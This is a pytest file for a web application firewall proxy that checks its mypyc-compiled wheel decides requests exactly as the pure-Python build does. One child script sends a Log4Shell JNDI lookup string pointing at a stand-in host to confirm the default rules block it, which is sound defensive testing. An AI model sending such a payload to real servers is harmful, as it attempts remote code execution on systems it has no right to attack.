"""The compiled build (issue 11): an installed wheel runs compiled by default, and both decide alike.

``pip install .`` / ``pip wheel .`` compile ``wafproxy.compiled.MODULES`` with mypyc when the machine
has a C compiler and Python's headers (``hatch_build.py``); ``WAFPROXY_COMPILE=0`` builds pure
Python, ``=1`` fails the build rather than ship it pure; ``WAFPROXY_PURE_PYTHON=1`` loads the ``.py``
files even where the extensions are installed. Decisions are compared in child interpreters (the
switch is read at import): each prints which implementation it loaded, then ``repr(Decision)`` for a
fixture table (the bench requests and every should-block / should-pass payload of ``tests/rules`` in
every placement) against the default web ACL and the same ACL with every managed rule set to Count
(so each decision carries the evidence of every rule that matched).

The slow tests build real wheels with pip: the default one once per session (``default_wheel``,
``tests/conftest.py``: from the sdist, shared with ``tests/test_wheel.py``), and the quick ones that
do not compile (``WAFPROXY_COMPILE=0``; a C compiler that fails, ``CC=false``).
"""

from __future__ import annotations

import ast
import os
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest

import hatch_build
import wafproxy.compiled as compiled
from tests.support.servers import REPO
from tests.support.wheels import EXT_SUFFIX, can_compile, extensions, is_pure, names, pip_wheel

CHILD = r"""
import sys, tempfile
from pathlib import Path
from tests.engine.test_bench_default_acl import TRAFFIC
from tests.rules.cases import CASES
from tests.rules.test_managed_rules import PLACEMENTS, counting_acl, request_with
import wafproxy
from wafproxy.aclfiles import load_web_acl
from wafproxy.compiled import describe, implementation, loaded
from wafproxy.engine import evaluate
from wafproxy.shipped import DEFAULT_ACL  # the package's own (an installed wheel's)

print(implementation(), Path(wafproxy.__file__).parent)
print(sorted(name for name, native in loaded().items() if not native))
print(describe())
table = list(TRAFFIC.items())
for case in CASES:
    for kind, payloads in (("block", case.block), ("allow", case.allow)):
        for i, payload in enumerate(payloads):
            for placement in PLACEMENTS:
                table.append((f"{case.rule_class}:{kind}{i}:{placement}",
                              request_with(payload, placement, case.rule_class)))
with tempfile.TemporaryDirectory() as tmp:
    acls = (("default", load_web_acl(DEFAULT_ACL)), ("counting", counting_acl(Path(tmp))))
for name, acl in acls:
    for case_id, request in table:
        print(name, case_id, repr(evaluate(acl, request)))
"""


def _child(path: list[Path], *, pure: bool) -> tuple[str, Path, str, str, list[str]]:
    """(implementation, package directory, modules not compiled, ``describe()``, decision lines) of a
    child run (its working directory is the first path entry: `python -c` puts it first on sys.path)."""
    env = {k: v for k, v in os.environ.items() if k not in ("WAFPROXY_PURE_PYTHON", "PYTHONPATH")}
    env["PYTHONPATH"] = os.pathsep.join(map(str, path))
    if pure:
        env["WAFPROXY_PURE_PYTHON"] = "1"
    out = subprocess.run([sys.executable, "-c", CHILD], env=env, cwd=path[0], capture_output=True,
                         text=True, timeout=600, check=True).stdout.splitlines()
    kind, package = out[0].split(" ", 1)
    return kind, Path(package), out[1], out[2], out[3:]


def test_the_module_list_names_real_modules_and_the_build_reads_the_same_list() -> None:
    for name in compiled.MODULES:
        path = REPO / Path(*name.split("."))
        assert path.with_suffix(".py").is_file() or (path / "__init__.py").is_file(), name
    assert hatch_build.compiled_modules() == list(compiled.MODULES)
    assert hatch_build._literal(REPO, "BUILD_NOTE") == compiled.BUILD_NOTE
    # the hook reads both literally: they must stay literals
    tree = ast.parse((REPO / "wafproxy" / "compiled.py").read_text())
    literals = {getattr(n.target, "id", "") for n in tree.body if isinstance(n, ast.AnnAssign)}
    assert {"MODULES", "BUILD_NOTE"} <= literals


def _awaits_in_handlers(tree: ast.AST) -> list[int]:
    """Lines of an ``await`` (or ``async for``/``async with``) inside a ``finally`` or ``except`` block."""
    awaiting = ast.Await | ast.AsyncFor | ast.AsyncWith
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Try):
            for stmt in [*node.finalbody, *(s for h in node.handlers for s in h.body)]:
                found += [n.lineno for n in ast.walk(stmt) if isinstance(n, awaiting)]
    return found


def test_no_compiled_module_awaits_in_a_finally_or_except_block() -> None:
    """mypyc 2.4 leaves the exception an awaiting ``finally`` propagates in the thread's exception
    state, and a later ``await`` raises it again (``upstream_write.send_streamed``: a benign upload
    answered with another request's 403). Compiled modules hold the exception, await, re-raise."""
    assert _awaits_in_handlers(ast.parse("try:\n    pass\nfinally:\n    await f()\n")) == [4]
    offenders = {}
    for name in compiled.MODULES:
        path = REPO / Path(*name.split("."))
        source = path.with_suffix(".py") if path.with_suffix(".py").is_file() else path / "__init__.py"
        lines = _awaits_in_handlers(ast.parse(source.read_text()))
        if lines:
            offenders[name] = lines
    assert offenders == {}


def _handler_names_rebound(tree: ast.AST, native: set[str]) -> list[int]:
    """Lines of an ``except T as name`` whose ``name`` an earlier handler of the same function
    bound to another exception type, either of them a class of ``native`` (compiled: other
    classes are typed ``object``, which holds anything)."""
    found = []
    for func in ast.walk(tree):
        if not isinstance(func, ast.FunctionDef | ast.AsyncFunctionDef):
            continue
        bound: dict[str, ast.expr] = {}
        for node in ast.walk(func):
            if isinstance(node, ast.ExceptHandler) and node.name and node.type is not None:
                first = bound.setdefault(node.name, node.type)
                names = {n.id for t in (first, node.type) for n in ast.walk(t) if isinstance(n, ast.Name)}
                if ast.dump(first) != ast.dump(node.type) and names & native:
                    found.append(node.lineno)
    return found


def _compiled_sources() -> dict[str, ast.AST]:
    out = {}
    for name in compiled.MODULES:
        path = REPO / Path(*name.split("."))
        source = path.with_suffix(".py") if path.with_suffix(".py").is_file() else path / "__init__.py"
        out[name] = ast.parse(source.read_text())
    return out


def test_no_compiled_module_binds_one_name_to_two_exception_types() -> None:
    """Compiled, an ``except A as exc`` types ``exc`` as ``A`` for the whole function when ``A``
    is a native class: a later ``except B as exc`` then raises ``TypeError: A object expected; got
    B`` instead of handling ``B`` (``handler._inspect`` answered a streamed body's late block 500
    once ``asgi.bodyscan`` was compiled). Each handler of another type gets its own name."""
    sample = ("def f():\n    try:\n        pass\n    except A as e:\n        pass\n"
              "    try:\n        pass\n    except B as e:\n        pass\n")
    assert _handler_names_rebound(ast.parse(sample), {"A"}) == [8]
    assert _handler_names_rebound(ast.parse(sample), set()) == []  # neither native: both ``object``
    trees = _compiled_sources()
    native = {n.name for tree in trees.values() for n in ast.walk(tree) if isinstance(n, ast.ClassDef)}
    offenders = {}
    for name, tree in trees.items():
        lines = _handler_names_rebound(tree, native)
        if lines:
            offenders[name] = lines
    assert offenders == {}


def test_pure_switch_loads_every_module_from_its_source() -> None:
    kind, package, not_compiled, described, lines = _child([REPO], pure=True)
    assert kind == "pure"
    assert package == REPO / "wafproxy"
    assert not_compiled == str(sorted(compiled.MODULES))
    assert described.startswith("pure Python (")
    assert len(lines) > 1000 and lines[0].startswith("default SimpleGET Decision(")


def test_a_bad_switch_value_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """A typo (``WAFPROXY_COMPILE=yes``) must not silently mean one of the three modes."""
    monkeypatch.setenv(hatch_build.ENV, "yes")
    with pytest.raises(ValueError, match="use 1 .* 0 .* unset"):
        hatch_build.compile_mode()


@pytest.mark.slow
def test_the_sdist_carries_what_the_build_hook_reads(release_sdist: Path) -> None:
    members = {m.split("/", 1)[1] for m in tarfile.open(release_sdist).getnames() if "/" in m}
    assert {"hatch_build.py", "wafproxy/compiled.py", "pyproject.toml"} <= members


@pytest.mark.slow
@pytest.mark.timeout(1800)
@pytest.mark.skipif(not can_compile(), reason="no C compiler or Python headers: the default build is pure")
def test_the_default_wheel_is_compiled_and_decides_like_pure(default_wheel: Path, tmp_path: Path) -> None:
    tag = f"cp{sys.version_info.major}{sys.version_info.minor}"
    assert default_wheel.name.startswith(f"wafproxy-0.1.0-{tag}-{tag}-"), default_wheel.name  # platform
    shipped = names(default_wheel)
    for name in compiled.MODULES:
        stem = "/".join(name.split("."))
        assert {f"{stem}{EXT_SUFFIX}", f"{stem}/__init__{EXT_SUFFIX}"} & shipped, name  # the extension ...
        assert {f"{stem}.py", f"{stem}/__init__.py"} & shipped, name  # ... and its source
    assert f"wafproxy__mypyc{EXT_SUFFIX}" in shipped  # mypyc's shared runtime, at the top level
    assert f"wafproxy/{compiled.BUILD_NOTE}" not in shipped
    site = tmp_path / "site"
    zipfile.ZipFile(default_wheel).extractall(site)
    kind, package, not_compiled, described, native_lines = _child([site, REPO], pure=False)
    assert (kind, package, not_compiled) == ("compiled", site / "wafproxy", "[]")
    assert described == f"compiled with mypyc ({len(compiled.MODULES)} modules)"
    kind, package, _, described, pure_lines = _child([site, REPO], pure=True)
    assert (kind, package) == ("pure", site / "wafproxy")
    assert described == (
        f"pure Python (WAFPROXY_PURE_PYTHON=1; {len(compiled.MODULES)} compiled modules installed)")
    assert native_lines == pure_lines


SMALL_CHILD = r"""
from wafproxy.compiled import describe, implementation
from wafproxy.aclfiles import load_web_acl
from wafproxy.engine import evaluate
from wafproxy.shipped import DEFAULT_ACL
from tests.engine.test_bench_default_acl import SIMPLE_GET
from tests.rules.test_managed_rules import request_with
print(implementation())
print(describe())
acl = load_web_acl(DEFAULT_ACL)
attack = request_with("${jndi:dns://evil.example/a}", "HEADER", "Log4JRCE")
print(evaluate(acl, SIMPLE_GET).blocked, evaluate(acl, attack).terminating_group_rule_id)
"""


def _run_pure_wheel(wheel: Path, site: Path) -> list[str]:
    """Extract ``wheel`` and run ``SMALL_CHILD`` on it: implementation, describe(), two decisions."""
    zipfile.ZipFile(wheel).extractall(site)
    env = {**{k: v for k, v in os.environ.items() if k not in ("WAFPROXY_PURE_PYTHON",)},
           "PYTHONPATH": os.pathsep.join(map(str, (site, REPO)))}
    return subprocess.run([sys.executable, "-c", SMALL_CHILD], env=env, cwd=site, capture_output=True,
                          text=True, timeout=600, check=True).stdout.splitlines()


@pytest.mark.slow
def test_compile_0_builds_the_pure_wheel_and_says_so(wheel_builder: Path, tmp_path: Path) -> None:
    wheel, _ = pip_wheel(wheel_builder, REPO, tmp_path / "wheelhouse", WAFPROXY_COMPILE="0")
    assert is_pure(wheel) and not extensions(wheel)
    assert "wafproxy/engine/context.py" in names(wheel)
    kind, described, actions = _run_pure_wheel(wheel, tmp_path / "site")
    assert (kind, described) == ("pure", "pure Python (built with WAFPROXY_COMPILE=0)")
    assert actions == "False Log4JRCE_HEADER"  # the default ACL passes a search, blocks Log4Shell


@pytest.mark.slow
@pytest.mark.timeout(900)
def test_a_broken_compiler_still_builds_a_working_pure_wheel_with_a_warning(
    wheel_builder: Path, tmp_path: Path
) -> None:
    """A C compiler that fails (``CC=false``): the build warns in one line and ships pure Python,
    which says why at run time (pip shows a build's output only with ``-v``)."""
    wheel, output = pip_wheel(wheel_builder, REPO, tmp_path / "wheelhouse", verbose=True, CC="false")
    assert is_pure(wheel) and not extensions(wheel)
    (warning,) = [line for line in output.splitlines() if "wafproxy: cannot compile (" in line]
    assert "the C compiler (false) fails" in warning and "python3-dev" in warning
    kind, described, actions = _run_pure_wheel(wheel, tmp_path / "site")
    assert kind == "pure"
    assert described.startswith("pure Python (the build could not compile: the C compiler (false) fails")
    assert actions == "False Log4JRCE_HEADER"  # the default ACL passes a search, blocks Log4Shell


@pytest.mark.slow
@pytest.mark.timeout(900)
def test_compile_1_fails_the_build_rather_than_ship_pure_python(wheel_builder: Path, tmp_path: Path) -> None:
    with pytest.raises(subprocess.CalledProcessError) as failed:
        pip_wheel(wheel_builder, REPO, tmp_path / "wheelhouse", verbose=True, WAFPROXY_COMPILE="1",
                  CC="false")
    assert "WAFPROXY_COMPILE=1 but compiling failed: the C compiler (false) fails" in failed.value.stderr
    assert not list((tmp_path / "wheelhouse").glob("*.whl"))


@pytest.mark.slow
@pytest.mark.timeout(900)
def test_only_a_wheel_to_compile_asks_for_mypy(monkeypatch: pytest.MonkeyPatch) -> None:
    """The build requirements a frontend installs (PEP 517/660 hooks, through ``build`` in an isolated
    environment): an editable install never downloads mypy, whatever ``WAFPROXY_COMPILE`` says."""
    from build import ProjectBuilder
    from build.env import DefaultIsolatedEnv

    with DefaultIsolatedEnv() as env:
        builder = ProjectBuilder.from_isolated_env(env, REPO)
        env.install(builder.build_system_requires)
        asked = {}
        for mode in ("", "0", "1"):
            monkeypatch.setenv(hatch_build.ENV, mode)
            for kind in ("wheel", "editable"):
                asked[mode, kind] = {r.split(">")[0] for r in builder.get_requires_for_build(kind)}
    compiling = {"mypy", "setuptools"} if can_compile() else set()
    assert asked["", "wheel"] == compiling
    assert asked["0", "wheel"] == set()
    assert asked["1", "wheel"] == {"mypy", "setuptools"}  # and fails later without a compiler
    assert not [reqs for (_, kind), reqs in asked.items() if kind == "editable" and "mypy" in reqs]


def test_the_container_build_stage_has_the_build_hook() -> None:
    """pyproject names ``hatch_build.py`` as the wheel's build hook: a build without it fails."""
    dockerfile = (REPO / "Dockerfile").read_text()
    copies = [line.split()[1:-1] for line in dockerfile.splitlines() if line.startswith("COPY ")]
    assert any("hatch_build.py" in sources and "pyproject.toml" in sources for sources in copies)
